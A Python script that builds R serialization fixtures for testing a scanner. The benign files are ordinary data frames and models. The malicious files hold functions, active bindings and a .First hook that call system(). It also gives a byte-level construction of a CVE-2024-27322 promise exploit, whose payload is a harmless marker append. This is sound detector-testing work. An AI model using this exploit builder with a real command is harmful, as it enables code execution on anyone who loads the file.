#!/usr/bin/env python3
"""Regenerate the R serialization fixtures under ``tests/assets/rdata/``.

Why: mlvet's R reader must find nothing at medium or above in what R itself writes for ordinary data and
models (data frames, ``lm``/``glm`` fits with their formulas and family functions, ``save()`` workspaces,
every compression ``saveRDS`` offers), and must rank the code paths that run without being called.

* ``benign/``: written by R itself (``Rscript``; Debian's ``r-base-core``).
* ``malicious/``: R writes these too where it can (a function calling ``system``, an active binding, a
  ``.First`` in a workspace). An unforced promise stored as a value is what R never writes on its own:
  it is rebuilt here to the published shape of CVE-2024-27322 (HiddenLayer, 2024-04: an XDR stream whose
  object is a PROMSXP with an unbound value and a ``system(...)`` call as its expression), byte by byte
  following R's ``src/main/serialize.c``. The payload only appends to ``$MLVET_MARKER``.

Nothing here is loaded by the scanner's tests except in the opt-in live test (``Rscript`` in a subprocess).
Run::

    apt-get install r-base-core
    python3 tests/assets/make_rdata.py
"""

from __future__ import annotations

import struct
import subprocess
from pathlib import Path

OUT = Path(__file__).resolve().parent / "rdata"
PAYLOAD = 'echo mlvet-test >> "${MLVET_MARKER:-/dev/null}"'

R_BENIGN = r"""
set.seed(1)
df <- data.frame(a = 1:5, b = c(0.5, 1.5, 2.5, 3.5, 4.5), c = letters[1:5], f = factor(c("x", "y", "x", "y", "x")))
saveRDS(df, "benign/data_frame.rds")
saveRDS(df, "benign/data_frame_xz.rds", compress = "xz")
saveRDS(df, "benign/data_frame_bzip2.rds", compress = "bzip2")
saveRDS(df, "benign/data_frame_plain.rds", compress = FALSE)
saveRDS(df, "benign/data_frame_v2.rds", version = 2, compress = FALSE)
saveRDS(list(m = matrix(1:6, 2), s = "text", n = NULL, l = list(TRUE, NA, 3+2i), r = as.raw(1:4)),
        "benign/nested_list.rds", compress = FALSE)
small <- mtcars[1:12, c("mpg", "wt", "am")]
fit <- lm(mpg ~ wt, data = small)
saveRDS(fit, "benign/lm_model.rds")
gfit <- glm(am ~ wt, data = small, family = binomial)
saveRDS(gfit, "benign/glm_model.rds")
x <- 1:10; y <- c(a = 1, b = 2)
save(x, y, df, file = "benign/workspace.RData")
save(x, file = "benign/workspace_xdr_plain.rda", compress = FALSE)
saveRDS(as.formula(paste("y ~", paste0("x", 1:400, collapse = " + "))), "benign/formula_400_terms.rds")
long_body <- paste("function(x) {", paste(rep("x <- x + 1", 300), collapse = "; "), "; x }")
saveRDS(compiler::cmpfun(eval(parse(text = long_body))), "benign/bytecode_300_statements.rds")
saveRDS(compiler::cmpfun(function(x, k = 2) { if (x > 1) x * k else sum(seq_len(k)) }), "benign/bytecode_function.rds",
        compress = FALSE)
"""

R_MALICIOUS = r"""
payload <- Sys.getenv("PAYLOAD")
evil <- eval(parse(text = sprintf("function(x, ...) system('%s')", payload)))
saveRDS(evil, "malicious/closure_system.rds", compress = FALSE)
saveRDS(compiler::cmpfun(evil), "malicious/bytecode_system.rds", compress = FALSE)
e <- new.env()
makeActiveBinding("value", evil, e)
saveRDS(e, "malicious/active_binding.rds", compress = FALSE)
.First <- evil
save(.First, file = "malicious/first_function.RData")
"""


def _int(n: int) -> bytes:
    return struct.pack(">i", n)


def _charsxp(text: str) -> bytes:
    raw = text.encode()
    return _int(0x00040009) + _int(len(raw)) + raw  # CHARSXP, UTF-8 flag (gp bit 3 << 12)


def _sym(name: str) -> bytes:
    return _int(1) + _charsxp(name)


def promise_poc() -> bytes:
    """An XDR ``saveRDS`` stream whose object is ``PROMSXP(env=R_GlobalEnv, value=unbound, system(cmd))``."""
    nil = _int(254)
    call = _int(6) + _sym("system") + _int(2) + _int(16) + _int(1) + _charsxp(PAYLOAD) + nil
    promise = _int(0x405) + _int(253) + _int(252) + call  # has-tag; tag = GLOBALENV, car = UNBOUNDVALUE
    header = b"X\n" + _int(3) + _int(0x040202) + _int(0x030500) + _int(5) + b"UTF-8"
    return header + promise


def promise_in_list_poc() -> bytes:
    """The same promise as the single element of a list (VECSXP): forced when the element is used."""
    poc = promise_poc()
    header_len = 2 + 4 * 4 + 5
    return poc[:header_len] + _int(19) + _int(1) + poc[header_len:]


def main() -> None:
    (OUT / "benign").mkdir(parents=True, exist_ok=True)
    (OUT / "malicious").mkdir(parents=True, exist_ok=True)
    subprocess.run(["Rscript", "-e", R_BENIGN], cwd=OUT, check=True)
    env = {"PAYLOAD": PAYLOAD, "PATH": "/usr/bin:/bin"}
    subprocess.run(["Rscript", "-e", R_MALICIOUS], cwd=OUT, check=True, env=env)
    (OUT / "malicious" / "cve_2024_27322_promise.rds").write_bytes(promise_poc())
    (OUT / "malicious" / "cve_2024_27322_promise_in_list.rds").write_bytes(promise_in_list_poc())
    for p in sorted(OUT.rglob("*")):
        if p.is_file():
            print(p.relative_to(OUT), p.stat().st_size)


if __name__ == "__main__":
    main()
